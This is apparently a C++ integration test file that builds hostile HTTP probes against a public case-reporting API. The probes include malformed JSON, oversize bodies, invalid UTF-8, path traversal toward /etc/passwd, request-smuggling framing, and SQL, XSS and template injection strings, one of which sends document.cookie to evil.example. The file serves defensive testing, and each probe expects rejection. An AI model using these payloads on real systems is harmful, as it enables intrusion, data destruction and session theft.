#include "integration/hostile_requests.h"

#include <array>
#include <nlohmann/json.hpp>
#include <utility>

#include "integration/sample_cases.h"

namespace sigap::integration {
namespace {

using nlohmann::json;

constexpr size_t kBodyLimit = 1 << 20;

// The example submission with the value at `pointer` ("/location/lat")
// replaced, serialised.
std::string With(const std::string& pointer, const json& value) {
  json body = ExampleSubmission();
  body[json::json_pointer(pointer)] = value;
  return body.dump();
}

// The example submission without the member at `pointer`.
std::string Without(const std::string& pointer) {
  json body = ExampleSubmission();
  const json::json_pointer p(pointer);
  body[p.parent_pointer()].erase(p.back());
  return body.dump();
}

// The example with the value at `pointer` replaced by raw JSON text (for
// tokens nlohmann would never write: NaN, 1e400, invalid UTF-8).
std::string WithRaw(const std::string& pointer, const std::string& raw) {
  const std::string mark = "@@RAW@@";
  std::string body = With(pointer, mark);
  const auto at = body.find("\"" + mark + "\"");
  return body.replace(at, mark.size() + 2, raw);
}

// "/location/lat" -> "location.lat", as problem+json names fields.
std::string FieldName(const std::string& pointer) {
  std::string name = pointer.substr(1);
  for (char& c : name) {
    if (c == '/') c = '.';
  }
  return name;
}

Expectation Field(const std::string& pointer) { return {{422}, FieldName(pointer)}; }
Expectation BadJson() { return {{400}}; }
Expectation BadJsonOrInvalid(const std::string& field = "") { return {{400, 422}, field}; }
Expectation BadFraming() { return {{400}, "", false, true}; }

std::string Repeat(std::string_view s, size_t n) {
  std::string out;
  out.reserve(s.size() * n);
  for (size_t i = 0; i < n; ++i) out += s;
  return out;
}

// Chunked transfer coding of `body` in pieces of `piece` bytes.
std::string Chunked(const std::string& body, size_t piece) {
  std::string out;
  for (size_t at = 0; at < body.size(); at += piece) {
    const std::string part = body.substr(at, piece);
    char size[20];
    std::snprintf(size, sizeof size, "%zx", part.size());
    out += std::string(size) + "\r\n" + part + "\r\n";
  }
  return out + "0\r\n\r\n";
}

// A POST whose framing is given by `headers` (lines) and `payload`.
Probe RawPost(std::string name, const std::string& headers, const std::string& payload,
              Expectation expect) {
  return Probe{std::move(name),
               "POST /api/v1/cases HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
               "Content-Type: application/json\r\n" +
                   headers + "\r\n" + payload,
               std::move(expect)};
}

Probe RawBytes(std::string name, std::string bytes, Expectation expect = BadFraming()) {
  return Probe{std::move(name), std::move(bytes), std::move(expect)};
}

struct FieldKind {
  const char* pointer;
  enum { kString, kNumber, kBool, kObject, kArray } type;
  bool required;
};

constexpr std::array<FieldKind, 17> kFields = {{
    {"/kind", FieldKind::kString, false},
    {"/service_code", FieldKind::kString, false},
    {"/category", FieldKind::kString, false},
    {"/title", FieldKind::kString, true},
    {"/description", FieldKind::kString, true},
    {"/location", FieldKind::kObject, false},
    {"/location/lat", FieldKind::kNumber, false},
    {"/location/lng", FieldKind::kNumber, false},
    {"/location/region_code", FieldKind::kString, false},
    {"/location/address", FieldKind::kString, false},
    {"/reporter", FieldKind::kObject, false},
    {"/reporter/name", FieldKind::kString, false},
    {"/reporter/phone", FieldKind::kString, false},
    {"/reporter/email", FieldKind::kString, false},
    {"/reporter/nik", FieldKind::kString, false},
    {"/anonymous", FieldKind::kBool, false},
    {"/attachments", FieldKind::kArray, false},
}};

std::vector<json> WrongTypes(decltype(FieldKind::type) type) {
  switch (type) {
    case FieldKind::kString:
      return {42, -3.5, true, json::array(), json::array({"x"}), json::object({{"a", "b"}})};
    case FieldKind::kNumber:
      return {"-6.99", true, json::array({-6.99}), json::object(), ""};
    case FieldKind::kBool:
      return {"true", 1, 0, "ya", json::array()};
    case FieldKind::kObject:
      return {"Jl. Pemuda 12", 42, json::array(), true};
    case FieldKind::kArray:
      return {"foto.jpg", 7, json::object(), json::array({1}), json::array({{{"name", 5}}})};
  }
  return {};
}

// Every string field a client can send.
constexpr std::array<const char*, 11> kStringFields = {
    "/kind",           "/service_code",         "/category",         "/title",
    "/description",    "/location/region_code", "/location/address", "/reporter/name",
    "/reporter/phone", "/reporter/email",       "/reporter/nik"};

}  // namespace

std::vector<Probe> MalformedJsonProbes() {
  std::vector<Probe> probes;
  const std::vector<std::string> broken = {
      "",
      " ",
      "\r\n",
      "{",
      "}",
      "[",
      "]",
      "{{}}",
      "{\"kind\":",
      "{\"kind\":\"complaint\"",
      "{\"kind\" \"complaint\"}",
      "{\"kind\":\"complaint\" \"title\":\"x\"}",
      "{kind:\"complaint\"}",
      "{'kind':'complaint'}",
      "{\"kind\":\"complaint\",}",
      "{,}",
      "{\"a\":[1,2,]}",
      "{\"a\":1}{\"b\":2}",
      "{\"a\":1} x",
      "{\"title\":\"unterminated}",
      "{\"title\":\"\\x41\"}",
      "{\"title\":\"\\u12\"}",
      "{\"title\":\"\\uZZZZ\"}",
      "{\"title\":'single'}",
      "{\"location\":{\"lat\":01}}",
      "{\"location\":{\"lat\":1.}}",
      "{\"location\":{\"lat\":.5}}",
      "{\"location\":{\"lat\":+1}}",
      "{\"location\":{\"lat\":0x10}}",
      "{\"location\":{\"lat\":1e}}",
      "{\"location\":{\"lat\":--1}}",
      "{\"anonymous\":tru}",
      "{\"anonymous\":nul}",
      "{\"anonymous\":True}",
      "{\"anonymous\":FALSE}",
      "/* comment */ {}",
      "{\"a\":1} // comment",
      "{\"title\":\"raw\ttab\"}",
      "{\"title\":\"raw\nnewline\"}",
      std::string("{\"title\":\"raw\0nul\"}", 19),
      std::string("\0\0\0\0", 4),
      "undefined",
      "{\"a\":undefined}",
      "<case><title>x</title></case>",
      "kind=complaint&title=Saluran",
      "{\"kind\":\"complaint\"" + std::string(4000, ' '),
      "\"\\",
      "{\"\\ud800\":1}",
  };
  for (const auto& body : broken)
    probes.push_back(PostCase("broken JSON: " + body, body, BadJson()));

  // Cut the valid example at a few places.
  const std::string example = ExampleSubmission().dump();
  for (size_t cut : {size_t{1}, example.size() / 4, example.size() / 2, example.size() - 1}) {
    probes.push_back(
        PostCase("truncated at " + std::to_string(cut), example.substr(0, cut), BadJson()));
  }
  // Tokens JSON does not have.
  for (const char* token : {"NaN", "-NaN", "Infinity", "-Infinity", "nan", "inf", "undefined"}) {
    probes.push_back(
        PostCase(std::string("lat = ") + token, WithRaw("/location/lat", token), BadJson()));
  }
  probes.push_back(PostCase("lat = 1e400 (overflow)", WithRaw("/location/lat", "1e400"),
                            BadJsonOrInvalid("location.lat")));
  probes.push_back(PostCase("lng = -1e99999", WithRaw("/location/lng", "-1e99999"),
                            BadJsonOrInvalid("location.lng")));
  // Roots that are JSON but not a case.
  for (const char* root : {"null", "true", "42", "\"kasus\"", "[]", "[{}]", "{}"}) {
    probes.push_back(PostCase(std::string("root ") + root, root, BadJsonOrInvalid()));
  }
  // Deep nesting: a recursive parser or destructor would overflow the stack.
  probes.push_back(PostCase("100k [", std::string(100000, '['), BadJson()));
  probes.push_back(PostCase("100k [ ]", std::string(100000, '[') + std::string(100000, ']'),
                            BadJsonOrInvalid()));
  probes.push_back(PostCase("50k {\"a\":", Repeat("{\"a\":", 50000) + "1" + std::string(50000, '}'),
                            BadJsonOrInvalid()));
  probes.push_back(PostCase("title nested 100k deep",
                            WithRaw("/title", std::string(100000, '[') + std::string(100000, ']')),
                            BadJsonOrInvalid("title")));
  // Duplicate keys: either refused or one of the values taken, never a crash.
  std::string dup = example;
  dup.insert(1, "\"title\":\"Judul pertama\",");
  probes.push_back(PostCase("duplicate title", dup, {{400, 422}, "", true}));
  std::string dup_location = example;
  dup_location.insert(1, "\"location\":{\"lat\":1000},");
  probes.push_back(PostCase("duplicate location", dup_location, {{400, 422}, "", true}));
  probes.push_back(PostCase("UTF-8 byte order mark", "\xEF\xBB\xBF" + example, {{400}, "", true}));
  return probes;
}

std::vector<Probe> OversizeProbes() {
  std::vector<Probe> probes;
  json big = ExampleSubmission();
  big["description"] = std::string(kBodyLimit, 'a');
  probes.push_back(PostCase("1 MiB description (body over the limit)", big.dump(), {{413}}));
  probes.push_back(PostCase("2 MiB of spaces", std::string(2 * kBodyLimit, ' '), {{413}}));
  probes.push_back(
      PostCase("8 MiB number array", "[" + Repeat("1,", 4 * kBodyLimit) + "1]", {{413}}));
  probes.push_back(RawPost("Content-Length 1 MiB + 1, no body",
                           "Content-Length: " + std::to_string(kBodyLimit + 1) + "\r\n", "",
                           {{413}}));
  probes.push_back(
      RawPost("Content-Length 10 GiB, no body", "Content-Length: 10737418240\r\n", "", {{413}}));
  probes.push_back(RawPost("Content-Length beyond 64 bits",
                           "Content-Length: 99999999999999999999999999\r\n", "", {{400, 413}}));
  probes.push_back(RawPost("chunked body over the limit", "Transfer-Encoding: chunked\r\n",
                           Chunked(std::string(kBodyLimit + 1000, ' '), 65536), {{413}}));
  probes.push_back(RawPost("one chunk of 2 MiB declared", "Transfer-Encoding: chunked\r\n",
                           "200000\r\n", {{400, 413}}));

  // Exactly at the limit: not too large, but the description is too long.
  json exact = ExampleSubmission();
  exact["description"] = "";
  const size_t rest = kBodyLimit - exact.dump().size();
  exact["description"] = std::string(rest, 'b');
  probes.push_back(PostCase("body of exactly 1 MiB", exact.dump(), {{422}, "description"}));
  return probes;
}

std::vector<Probe> FieldProbes() {
  std::vector<Probe> probes;
  for (const FieldKind& f : kFields) {
    for (const json& wrong : WrongTypes(f.type)) {
      probes.push_back(PostCase(std::string(f.pointer) + " = " + wrong.dump(),
                                With(f.pointer, wrong), Field(f.pointer)));
    }
    Expectation null = Field(f.pointer);
    null.may_succeed = !f.required;  // null may mean "not given" for optional fields
    probes.push_back(PostCase(std::string(f.pointer) + " = null", With(f.pointer, nullptr), null));
  }
  probes.push_back(
      PostCase("/confidential = \"no\"", With("/confidential", "no"), Field("/confidential")));
  probes.push_back(PostCase("no title", Without("/title"), Field("/title")));
  probes.push_back(PostCase("no description", Without("/description"), Field("/description")));
  probes.push_back(PostCase(
      "request without service",
      [] {
        json b = ExampleSubmission();
        b["kind"] = "request";
        b.erase("service_code");
        return b.dump();
      }(),
      Field("/service_code")));

  const std::vector<std::pair<std::string, json>> invalid = {
      {"/title", ""},
      {"/title", "   "},
      {"/title", "\t\n "},
      {"/description", ""},
      {"/description", " \n "},
      {"/kind", "COMPLAINT"},
      {"/kind", "pengaduan"},
      {"/kind", ""},
      {"/service_code", "NOPE-XYZ"},
      {"/service_code", "PU-DRAINASE' OR '1'='1"},
      {"/location/region_code", "99.99.99.9999"},
      {"/location/region_code", "33.74.1"},
      {"/location/region_code", "33.74.01.1001; DROP TABLE regions"},
      {"/location/region_code", "../../../etc/passwd"},
      {"/location/lat", 90.0001},
      {"/location/lat", -90.0001},
      {"/location/lat", 91},
      {"/location/lat", -1000},
      {"/location/lat", 1e308},
      {"/location/lat", -1e308},
      {"/location/lng", 180.0001},
      {"/location/lng", -180.0001},
      {"/location/lng", 360},
      {"/location/lng", 1e308},
      {"/title", std::string(201, 'a')},
      {"/title", std::string(100000, 'a')},
      {"/description", std::string(5001, 'd')},
      {"/description", Repeat("\xC3\xA9", 5001)},
      {"/description", std::string(500000, 'd')},
      {"/location/address", std::string(501, 'j')},
      {"/reporter/name", std::string(101, 'n')},
      {"/category", std::string(201, 'k')},
      {"/reporter/email", std::string(300, 'e') + "@example.id"},
      {"/reporter/email", "bukan-email"},
      {"/reporter/email", "a@b"},
      {"/reporter/email", "<script>@example.id"},
      {"/reporter/phone", "0812"},
      {"/reporter/phone", std::string(1000, '8')},
      {"/reporter/phone", "0812-abc-999"},
      {"/reporter/nik", "123"},
      {"/reporter/nik", "ABCDEFGHIJKLMNOP"},
      {"/reporter/nik", "33740112345678901"},
      {"/service_code", std::string(10000, 'S')},
      {"/location/region_code", std::string(10000, '3')},
      {"/kind", std::string(10000, 'k')},
      {"/title", std::string("Saluran\0tersumbat", 17)},
      {"/description", std::string("Air meluap\0ke jalan", 19)},
      {"/location/address", "Jl. Pemuda\a12"},
      {"/reporter/name", "\x1b[31mSri\x1b[0m"},
      {"/title", "Saluran\ntersumbat"},
      {"/title", "Saluran\r\nSet-Cookie: x=1"},
      {"/title", "C1 control \xC2\x85 here"},
      {"/location/region_code", std::string("33.74\0.01", 9)},
      {"/service_code", std::string("PU-DRAINASE\0", 12)},
      {"/kind", std::string("complaint\0", 10)},
      {"/attachments",
       json::array({{{"name", "a.jpg"}, {"content_type", "image/jpeg"}, {"size_bytes", -1}}})},
      {"/attachments",
       json::array({{{"name", "a.jpg"}, {"content_type", "image/jpeg"}, {"size_bytes", 1e12}}})},
      {"/attachments", json::array({{{"content_type", "image/jpeg"}, {"size_bytes", 10}}})},
      {"/attachments",
       json(std::vector<json>(
           11, {{"name", "a.jpg"}, {"content_type", "image/jpeg"}, {"size_bytes", 10}}))},
  };
  for (const auto& [pointer, value] : invalid) {
    probes.push_back(PostCase(pointer + " = " + value.dump().substr(0, 60), With(pointer, value),
                              Field(pointer)));
  }
  return probes;
}

std::vector<Probe> InvalidUtf8Probes() {
  const std::vector<std::pair<const char*, std::string>> sequences = {
      {"overlong /", "\xC0\xAF"},
      {"overlong 3-byte /", "\xE0\x80\xAF"},
      {"overlong 4-byte /", "\xF0\x80\x80\xAF"},
      {"overlong NUL", "\xC0\x80"},
      {"surrogate D800", "\xED\xA0\x80"},
      {"surrogate DFFF", "\xED\xBF\xBF"},
      {"truncated 3-byte", "\xE2\x82"},
      {"truncated emoji", "\xF0\x9F\x98"},
      {"lone continuation", "\x80"},
      {"byte FF", "\xFF\xFE"},
      {"above U+10FFFF", "\xF4\x90\x80\x80"},
      {"5-byte form", "\xF8\x88\x80\x80\x80"},
  };
  std::vector<Probe> probes;
  for (const char* pointer : kStringFields) {
    for (const auto& [what, bytes] : sequences) {
      probes.push_back(PostCase(std::string(pointer) + ": " + what,
                                WithRaw(pointer, "\"Saluran " + bytes + " tersumbat\""),
                                BadJsonOrInvalid(FieldName(pointer))));
    }
    for (const char* escape : {"\\ud800", "\\udc00x", "\\ud800\\u0041"}) {
      probes.push_back(PostCase(std::string(pointer) + ": lone surrogate " + escape,
                                WithRaw(pointer, std::string("\"a") + escape + "\""),
                                BadJsonOrInvalid(FieldName(pointer))));
    }
  }
  // Truncated sequence at the very end of the body.
  probes.push_back(PostCase("body ends inside a sequence", "{\"title\":\"\xE2\x82", BadJson()));
  return probes;
}

std::vector<Probe> PathAndMethodProbes() {
  std::vector<Probe> probes;
  Expectation not_found{{400, 404, 414, 431}};
  not_found.must_not_contain = "root:x:0:0";
  const std::vector<std::string> codes = {"ZZZZZZZZZZ",
                                          "0000000000",
                                          "7KQ2M9XRT4",
                                          "7KQ2M9XRT",
                                          "7KQ2M9XRT4A",
                                          "-1",
                                          "1",
                                          "..%2F..%2F..%2Fetc%2Fpasswd",
                                          "%2e%2e%2f%2e%2e%2fsigap.db",
                                          "%00",
                                          "ABC%00DEF",
                                          "%",
                                          "%G1",
                                          "%zz%",
                                          "%C0%AF",
                                          "%ED%A0%80",
                                          "%FF%FE",
                                          "%E2%82%AC%E2%82%AC",
                                          "1%20OR%201=1",
                                          "'%20OR%20'1'='1",
                                          "%3Cscript%3Ealert(1)%3C/script%3E",
                                          "a/b/c",
                                          "%2F",
                                          "x?code=../../x",
                                          "x#frag",
                                          std::string(10000, 'A'),
                                          Repeat("%41", 3000),
                                          Repeat("%", 5000)};
  for (const auto& code : codes) {
    probes.push_back({"GET case " + code, RawRequest("GET", "/api/v1/cases/" + code), not_found});
  }
  for (const std::string& target : std::vector<std::string>{
           "/api/v1/cases/../../../../etc/passwd", "/../../../../etc/passwd",
           "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/..%2f..%2f..%2fetc%2fpasswd",
           "/static/../../../etc/passwd", "/assets/..%5c..%5c..%5cetc%5cpasswd",
           "/api/v1/../../sigap.db", "//etc/passwd", "/api/v1/regions?parent=%00",
           "/api/v1/regions?parent=" + std::string(5000, '3'), "/api/v1/services/%00",
           "/api/v1/services/" + Repeat("..%2F", 500), "/api/v1/" + std::string(8000, 'x')}) {
    Expectation e = not_found;
    e.may_succeed = target.find("regions") != std::string::npos;  // an empty list is fine
    probes.push_back({"GET " + target, RawRequest("GET", target), e});
  }

  for (const char* method : {"PUT", "DELETE", "PATCH"}) {
    probes.push_back({std::string(method) + " /api/v1/cases",
                      RawRequest(method, "/api/v1/cases", ExampleSubmission().dump()),
                      {{404, 405}}});
    probes.push_back({std::string(method) + " /api/v1/cases/{code}",
                      RawRequest(method, "/api/v1/cases/7KQ2M9XRT4", "{}"),
                      {{404, 405}}});
  }
  probes.push_back({"POST /healthz", RawRequest("POST", "/healthz", "{}"), {{405}}});
  probes.push_back({"DELETE /healthz", RawRequest("DELETE", "/healthz"), {{405}}});
  probes.push_back({"TRACE /", RawRequest("TRACE", "/"), {{400, 404, 405}}});
  probes.push_back(
      {"CONNECT", "CONNECT 127.0.0.1:443 HTTP/1.1\r\nHost: 127.0.0.1:443\r\n\r\n", BadFraming()});
  for (const std::string& method :
       std::vector<std::string>{"BREW", "get", "G\x01T", std::string(1000, 'G'), "POST\x7f"}) {
    probes.push_back(
        {"method " + method, RawRequest(method, "/healthz"), {{400, 404, 405}, "", false, true}});
  }
  probes.push_back(
      {"OPTIONS /api/v1/cases", RawRequest("OPTIONS", "/api/v1/cases"), {{404, 405}, "", true}});
  return probes;
}

std::vector<Probe> FramingProbes() {
  const std::string ok_body = ExampleSubmission().dump();
  const std::string cl = "Content-Length: " + std::to_string(ok_body.size()) + "\r\n";
  std::vector<Probe> probes;
  probes.push_back({"20 KiB header",
                    RawRequest("GET", "/healthz", "", "X-Big: " + std::string(20000, 'x') + "\r\n"),
                    {{431}, "", false, true}});
  probes.push_back({"2000 headers",
                    RawRequest("GET", "/healthz", "", Repeat("X-H: v\r\n", 2000)),
                    {{431}, "", false, true}});
  probes.push_back({"20 KiB target",
                    RawRequest("GET", "/" + std::string(20000, 'a')),
                    {{414, 431}, "", false, true}});
  probes.push_back({"header name with space", RawRequest("GET", "/healthz", "", "Bad Name: x\r\n"),
                    BadFraming()});
  probes.push_back(
      {"header without colon", RawRequest("GET", "/healthz", "", "NoColon\r\n"), BadFraming()});
  probes.push_back({"NUL in header value",
                    RawRequest("GET", "/healthz", "", std::string("X-A: a\0b\r\n", 10)),
                    BadFraming()});
  probes.push_back({"obs-fold",
                    RawRequest("GET", "/healthz", "", "X-A: a\r\n  folded\r\n"),
                    {{400}, "", true, true}});
  for (const char* length : {"abc", "-1", "1.5", "+5", "5 5", "0x10", "5, 6", ""}) {
    probes.push_back(RawPost(std::string("Content-Length: '") + length + "'",
                             std::string("Content-Length: ") + length + "\r\n", ok_body,
                             BadFraming()));
  }
  probes.push_back(
      RawPost("two different Content-Length", cl + "Content-Length: 3\r\n", ok_body, BadFraming()));
  probes.push_back(RawPost("Content-Length and chunked", cl + "Transfer-Encoding: chunked\r\n",
                           Chunked(ok_body, 64), BadFraming()));
  probes.push_back(
      RawPost("Transfer-Encoding gzip", "Transfer-Encoding: gzip\r\n", ok_body, BadFraming()));
  probes.push_back(RawPost("Transfer-Encoding gzip, chunked",
                           "Transfer-Encoding: gzip, chunked\r\n", Chunked(ok_body, 64),
                           BadFraming()));
  const std::string te = "Transfer-Encoding: chunked\r\n";
  probes.push_back(RawPost("chunk size zz", te, "zz\r\nhello\r\n0\r\n\r\n", BadFraming()));
  probes.push_back(RawPost("chunk size overflow", te, "FFFFFFFFFFFFFFFFFFFF\r\nx\r\n0\r\n\r\n",
                           {{400, 413}, "", false, true}));
  probes.push_back(RawPost("chunk size -5", te, "-5\r\nhello\r\n0\r\n\r\n", BadFraming()));
  probes.push_back(RawPost("chunk without CRLF", te, "5\r\nhelloXX0\r\n\r\n", BadFraming()));
  probes.push_back(RawPost("20 KiB chunk extension", te,
                           "5;ext=" + std::string(20000, 'e') + "\r\nhello\r\n0\r\n\r\n",
                           {{400, 413, 431}, "", false, true}));
  probes.push_back(RawPost("chunked broken JSON", te, Chunked("{\"title\":", 3), BadJson()));
  probes.push_back(RawPost("chunked valid case", te, Chunked(ok_body, 17), {{}, "", true}));

  probes.push_back(RawBytes("request line garbage", "GARBAGE\r\n\r\n"));
  probes.push_back(RawBytes("HTTP/0.9 style", "GET /healthz\r\n\r\n"));
  probes.push_back(RawBytes("lower-case version", "GET /healthz http/1.1\r\nHost: x\r\n\r\n"));
  probes.push_back(RawBytes("double spaces", "GET  /healthz  HTTP/1.1\r\nHost: x\r\n\r\n"));
  probes.push_back(
      RawBytes("HTTP/9.9", "GET /healthz HTTP/9.9\r\nHost: x\r\n\r\n", {{400}, "", true, true}));
  probes.push_back(RawBytes("HTTP/2 preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"));
  probes.push_back(RawBytes(
      "TLS ClientHello",
      std::string("\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03", 11) + std::string(160, '\x5a')));
  std::string noise;
  for (int i = 0; i < 4096; ++i) noise += static_cast<char>((i * 7919 + 13) % 256);
  probes.push_back(RawBytes("4 KiB of binary noise", noise));
  probes.push_back(RawBytes("leading empty lines",
                            "\r\n\r\nGET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
                            {{400}, "", true, true}));
  probes.push_back(RawBytes("bare LF line endings",
                            "GET /healthz HTTP/1.1\nHost: x\nConnection: close\n\n",
                            {{400}, "", true, true}));
  probes.push_back(RawBytes("absolute-form target",
                            "GET http://evil.example/healthz HTTP/1.1\r\nHost: evil.example\r\n"
                            "Connection: close\r\n\r\n",
                            {{400, 404}, "", true, true}));
  probes.push_back(RawBytes("no Host", "GET /healthz HTTP/1.1\r\nConnection: close\r\n\r\n",
                            {{400}, "", true, true}));
  probes.push_back(
      RawBytes("two Host headers",
               "GET /healthz HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n",
               {{400}, "", true, true}));
  probes.push_back({"8 KiB Accept-Language on a bad body",
                    RawRequest("POST", "/api/v1/cases", "{",
                               "Accept-Language: " + Repeat("id-ID;q=0.9,", 680) + "\r\n"),
                    BadJson()});
  probes.push_back({"Content-Type text/plain",
                    RawRequest("POST", "/api/v1/cases", ok_body, "", "text/plain"),
                    {{400, 415}, "", true}});
  probes.push_back({"no Content-Type",
                    RawRequest("POST", "/api/v1/cases", ok_body, "", ""),
                    {{400, 415}, "", true}});
  probes.push_back(
      {"charset utf-16",
       RawRequest("POST", "/api/v1/cases", ok_body, "", "application/json; charset=utf-16"),
       {{400, 415}, "", true}});
  probes.push_back({"10k Idempotency-Key",
                    RawRequest("POST", "/api/v1/cases", ok_body,
                               "Idempotency-Key: " + std::string(10000, 'k') + "\r\n"),
                    {{400, 422}, "", true}});
  probes.push_back(
      {"Idempotency-Key with control bytes",
       RawRequest("POST", "/api/v1/cases", ok_body, std::string("Idempotency-Key: a\x01\x02b\r\n")),
       {{400, 422}, "", true, true}});
  return probes;
}

std::vector<std::string> InjectionStrings() {
  return {
      "'; DROP TABLE cases;--",
      "Robert'); DELETE FROM case_events WHERE 1=1; --",
      "\" OR \"1\"=\"1",
      "1' UNION SELECT username, password_hash FROM users --",
      "<script>alert(1)</script>",
      "\"><img src=x onerror=alert(document.cookie)>",
      "</script><script>fetch('//evil.example/'+document.cookie)</script>",
      "javascript:alert(1)",
      "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
      "%s%s%s%n %x %p",
      "\\\"}, \"status\": \"resolved\", \"x\": {\"",
      "C:\\Windows\\System32 \\\\server\\share ../../etc/passwd",
      std::string(
          "Jalan rusak \xF0\x9F\x9A\xA7 di \xEA\xA6\xB1\xEA\xA6\xBC\xEA\xA6\xA9\xEA\xA6\xAB ") +
          "\xE2\x80\x9Ckutip\xE2\x80\x9D \xE2\x80\xA6",
      "U+2028 \xE2\x80\xA8 dan U+2029 \xE2\x80\xA9",
      "literal \\u0000 and \\n, not control characters",
      "null",
      Repeat("\xC3\xA9", 200),
  };
}

}  // namespace sigap::integration
